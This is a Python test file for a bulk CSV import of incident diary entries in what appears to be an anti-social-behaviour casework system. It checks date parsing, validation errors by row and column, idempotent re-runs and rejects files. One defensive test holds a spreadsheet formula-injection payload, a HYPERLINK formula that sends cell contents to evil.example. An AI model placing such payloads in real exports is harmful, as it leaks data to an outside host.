"""Bulk diary import: BOM, UK dates, all-or-nothing validation naming row and column,
idempotent re-runs, --skip-invalid with a rejects file, and (opt-in) 100,000 rows."""

from __future__ import annotations

import csv
import io
import os
import secrets
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select, text
from sqlalchemy.ext.asyncio import async_sessionmaker

from asb_core.incidents.importer import COLUMNS, import_diary, parse_uk_datetime
from asb_core.incidents.models import DiaryEntry
from asb_core.webhooks.models import OutboxEvent
from asb_core.webhooks.schemas import WebhookIn
from tests.integration.casework_helpers import actor_for, new_case


@pytest.fixture
def maker(engine):
    return async_sessionmaker(engine, expire_on_commit=False)


async def _agency_with_cases(maker, n: int = 2) -> tuple[str, list]:
    async with maker() as s, s.begin():
        actor = await actor_for(s, f"imp-{secrets.token_hex(3)}", "caseworker",
                                "housing_provider")
        cases = [await new_case(s, actor) for _ in range(n)]
    return actor.agency_slug, cases


def _write(path: Path, rows: list[dict], *, bom: bool = True, columns=COLUMNS) -> Path:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(columns), lineterminator="\r\n")
    w.writeheader()
    for r in rows:
        w.writerow({c: r.get(c, "") for c in columns})
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buf.getvalue().encode("utf-8"))
    return path


def _row(ref: str, n: int, **kw) -> dict:
    row = {"case_reference": ref, "started_at": f"{1 + n % 28:02d}/03/2025 21:15",
           "duration_minutes": "40", "location": "Flat 3 landing",
           "what_happened": f"Loud music and shouting, night {n}", "category": "noise",
           "responsible": "Occupant of flat 5", "source_system": "legacy-hms",
           "source_row_id": f"R{n}"}
    row.update(kw)
    return row


async def _count(maker, cases) -> int:
    async with maker() as s:
        return (await s.execute(select(func.count()).select_from(DiaryEntry).where(
            DiaryEntry.case_id.in_([c.id for c in cases])))).scalar()


def test_uk_dates_are_london_wall_clock():
    assert parse_uk_datetime("15/07/2024 14:30") == datetime(2024, 7, 15, 13, 30, tzinfo=UTC)
    assert parse_uk_datetime("15/01/2024 14:30") == datetime(2024, 1, 15, 14, 30, tzinfo=UTC)
    assert parse_uk_datetime("5-1-2024") == datetime(2024, 1, 5, 0, 0, tzinfo=UTC)
    assert parse_uk_datetime("2024-07-15T14:30:00Z") == datetime(2024, 7, 15, 14, 30,
                                                                   tzinfo=UTC)
    assert parse_uk_datetime("2024-07-15 14:30") == datetime(2024, 7, 15, 13, 30, tzinfo=UTC)
    for bad in ("31/02/2024", "15/7/24", "tomorrow", "2024/07/15", "07/15/2024"):
        with pytest.raises(ValueError):
            parse_uk_datetime(bad)


async def test_bom_uk_dates_strands_and_rerun(maker, tmp_path):
    slug, (case, other) = await _agency_with_cases(maker)
    path = _write(tmp_path / "diary.csv", [
        _row(case.reference, 1, started_at="15/07/2024 14:30"),
        _row(case.reference, 2, started_at="16-07-2024", category="Verbal abuse",
             hostility_perceived="race; religion", hostility_perceived_by="victim",
             victim_feels_targeted="Yes"),
        _row(other.reference.lower(), 3, started_at="2024-07-17T08:00:00+01:00",
             duration_minutes=""),
    ])
    progress = io.StringIO()
    report = await import_diary(maker, path, slug, progress=progress)
    assert report.errors == [] and (report.rows, report.imported, report.already) == (3, 3, 0)
    assert "importing" in progress.getvalue() and "100%" in progress.getvalue()
    async with maker() as s:
        entries = (await s.execute(select(DiaryEntry).where(
            DiaryEntry.case_id.in_([case.id, other.id])).order_by(DiaryEntry.started_at)
        )).scalars().all()
    assert [e.started_at for e in entries] == [
        datetime(2024, 7, 15, 13, 30, tzinfo=UTC), datetime(2024, 7, 15, 23, 0, tzinfo=UTC),
        datetime(2024, 7, 17, 7, 0, tzinfo=UTC)]
    hate = entries[1]
    assert hate.category == "verbal_abuse" and hate.hostility_perceived == ["race", "religion"]
    assert hate.victim_feels_targeted is True and hate.source_system == "legacy-hms"
    assert entries[2].duration_minutes is None and entries[2].case_id == other.id

    again = await import_diary(maker, path, slug, progress=io.StringIO())
    assert (again.imported, again.already, again.errors) == (0, 3, [])
    assert await _count(maker, [case, other]) == 3


async def test_one_bad_row_imports_nothing_and_names_row_and_column(maker, tmp_path):
    slug, (case, _) = await _agency_with_cases(maker)
    rows = [_row(case.reference, n) for n in range(1, 6)]
    rows[3]["started_at"] = "31/02/2025 10:00"  # file row 5 (the header is row 1)
    path = _write(tmp_path / "bad.csv", rows)
    report = await import_diary(maker, path, slug, progress=io.StringIO())
    assert not report.written and report.imported == 0
    assert [str(e) for e in report.errors] == [
        "row 5, column started_at: not a real date or time (day is out of range for month)"]
    assert await _count(maker, [case]) == 0


async def test_every_error_is_reported_by_row_and_column(maker, tmp_path):
    slug, (case, _) = await _agency_with_cases(maker)
    path = _write(tmp_path / "bad.csv", [
        _row("ASB-1999-000001", 1),
        _row(case.reference, 2, category="shouting"),
        _row(case.reference, 3, what_happened=""),
        _row(case.reference, 4, hostility_perceived="race"),
        _row(case.reference, 5, victim_feels_targeted="maybe", duration_minutes="ten"),
        _row(case.reference, 6, started_at="01/01/2099 10:00"),
    ], bom=False)
    report = await import_diary(maker, path, slug, progress=io.StringIO())
    got = {(e.row, e.column) for e in report.errors}
    assert got == {(2, "case_reference"), (3, "category"), (4, "what_happened"),
                   (5, "hostility_perceived_by"), (6, "victim_feels_targeted"),
                   (6, "duration_minutes"), (7, "started_at")}
    assert await _count(maker, [case]) == 0


async def test_unknown_columns_and_cases_of_other_agencies(maker, tmp_path):
    slug, (case, _) = await _agency_with_cases(maker)
    other_slug, (foreign, _) = await _agency_with_cases(maker)
    bad_header = _write(tmp_path / "h.csv", [_row(case.reference, 1)],
                        columns=(*COLUMNS, "victim_name"))
    report = await import_diary(maker, bad_header, slug, progress=io.StringIO())
    assert [str(e) for e in report.errors] == ["row 1, column victim_name: unknown column"]
    path = _write(tmp_path / "f.csv", [_row(foreign.reference, 1)])
    report = await import_diary(maker, path, slug, progress=io.StringIO())
    assert [str(e) for e in report.errors] == [
        f"row 2, column case_reference: no case {foreign.reference} shared with {slug}"]


async def test_skip_invalid_writes_valid_rows_and_rejects(maker, tmp_path):
    slug, (case, _) = await _agency_with_cases(maker)
    rows = [_row(case.reference, n) for n in range(1, 5)]
    rows[1]["category"] = "nonsense"
    path = _write(tmp_path / "mixed.csv", rows)
    rejects = tmp_path / "out" / "rejects.csv"
    rejects.parent.mkdir()
    report = await import_diary(maker, path, slug, skip_invalid=True, rejects_path=rejects,
                                progress=io.StringIO())
    assert (report.valid, report.invalid, report.imported) == (3, 1, 3)
    with rejects.open(encoding="utf-8") as f:
        (rejected,) = list(csv.DictReader(f))
    assert rejected["row"] == "3" and rejected["source_row_id"] == "R2"
    assert rejected["errors"].startswith("row 3, column category: one of litter")
    assert await _count(maker, [case]) == 3
    # Fixed and re-run: only the rejected row is new.
    rows[1]["category"] = "noise"
    report = await import_diary(maker, _write(path, rows), slug, progress=io.StringIO())
    assert (report.imported, report.already) == (1, 3)
    # A row id imported before with other content is refused, by row and column.
    rows[0]["what_happened"] = "something else"
    report = await import_diary(maker, _write(path, rows), slug, progress=io.StringIO())
    assert [str(e) for e in report.errors] == [
        "row 2, column source_row_id: imported before with different content"]
    assert await _count(maker, [case]) == 4


def test_cli_reports_row_and_column(database_url, monkeypatch, capsys, tmp_path):
    from asb_api.cli import main
    from asb_core.settings import get_settings

    monkeypatch.setenv("DATABASE_URL", database_url)
    get_settings.cache_clear()
    path = _write(tmp_path / "x.csv", [_row("ASB-2024-999999", 1, started_at="yesterday")])
    try:
        assert main(["import", "diary", str(path), "--agency", "no-such-agency"]) == 2
        assert main(["worker", "--once"]) == 0
    finally:
        get_settings.cache_clear()
    assert "no agency 'no-such-agency'" in capsys.readouterr().err


@pytest.mark.slow
@pytest.mark.skipif(not os.environ.get("ASB_SLOW_TESTS"),
                    reason="100,000-row import: set ASB_SLOW_TESTS=1 to run")
async def test_import_100k_rows(maker, tmp_path):
    slug, cases = await _agency_with_cases(maker, n=200)
    rows = [_row(cases[n % len(cases)].reference, n,
                 started_at=f"{1 + n % 28:02d}/{1 + n % 12:02d}/2024 {n % 24:02d}:{n % 60:02d}")
            for n in range(100_000)]
    path = _write(tmp_path / "big.csv", rows)
    progress = io.StringIO()
    started = time.monotonic()
    report = await import_diary(maker, path, slug, progress=progress)
    took = time.monotonic() - started
    assert report.errors == [] and report.imported == 100_000, report.errors[:3]
    assert progress.getvalue().count("importing") >= 10
    print(f"\n100,000 rows imported in {took:.1f} s")
    assert await _count(maker, cases) == 100_000
    started = time.monotonic()
    again = await import_diary(maker, path, slug, progress=io.StringIO())
    print(f"re-run (nothing new) in {time.monotonic() - started:.1f} s")
    assert (again.imported, again.already) == (0, 100_000)
    async with maker() as s:
        assert (await s.execute(select(func.count()).select_from(OutboxEvent).where(
            OutboxEvent.case_id.in_([c.id for c in cases])))).scalar() == 0


async def test_imported_entries_escalate_like_posted_ones(maker, tmp_path):
    from asb_core.cases.models import Case, EscalationState
    from asb_core.escalation.models import EscalationFlag
    from asb_core.webhooks import service as webhooks
    from tests.integration.casework_helpers import actor_for as _actor

    slug, (case, _) = await _agency_with_cases(maker)
    async with maker() as s, s.begin():
        me = await _actor(s, slug, "integration", "housing_provider")
        sub = await webhooks.create_subscription(s, me, WebhookIn(url="https://hp.example/hook",
                                                 event_types=["diary_entry.added"]))
    path = _write(tmp_path / "hate.csv", [
        _row(case.reference, 1, started_at="01/03/2025 20:00"),
        _row(case.reference, 2, started_at="02/03/2025 20:00", category="threats",
             hostility_perceived="race", hostility_perceived_by="victim",
             victim_feels_targeted="yes"),
    ])
    report = await import_diary(maker, path, slug, progress=io.StringIO())
    assert report.imported == 2, report.errors
    async with maker() as s:
        flags = set((await s.execute(select(EscalationFlag.rule_id).where(
            EscalationFlag.case_id == case.id, EscalationFlag.cleared_at.is_(None)))).scalars())
        assert {"hate-perceived", "critical-incident"} <= flags
        assert (await s.get(Case, case.id)).risk_level == "high"
        assert (await s.get(EscalationState, case.id)).incidents == 2
        sent = (await s.execute(select(func.count()).select_from(OutboxEvent).where(
            OutboxEvent.case_id == case.id, OutboxEvent.event_type == "diary_entry.added"
        ))).scalar()
        assert sent == 2
        await s.execute(text("UPDATE webhook_subscriptions SET active = false WHERE id = :i"),
                        {"i": sub.id})
        await s.commit()


async def test_rejects_file_never_writes_a_cell_as_a_formula(maker, tmp_path):
    """Issue 15 break 9: a rejected row's cells that a spreadsheet would run as a formula
    (`=`, `+`, `-`, `@`) are written back as text, with a leading apostrophe."""
    slug, (case, _) = await _agency_with_cases(maker)
    rows = [_row(case.reference, 1), _row(case.reference, 2)]
    rows[1]["category"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    rows[1]["location"] = "@SUM(1+1)"
    rows[1]["witnesses"] = "-2+3"
    path = _write(tmp_path / "formula.csv", rows)
    rejects = tmp_path / "rejects.csv"
    report = await import_diary(maker, path, slug, skip_invalid=True, rejects_path=rejects,
                                progress=io.StringIO())
    assert report.invalid == 1
    with rejects.open(encoding="utf-8") as f:
        (rejected,) = list(csv.DictReader(f))
    assert rejected["category"].startswith("'=HYPERLINK")
    assert rejected["location"] == "'@SUM(1+1)" and rejected["witnesses"] == "'-2+3"
    for value in rejected.values():
        assert not value.startswith(("=", "+", "-", "@")), value
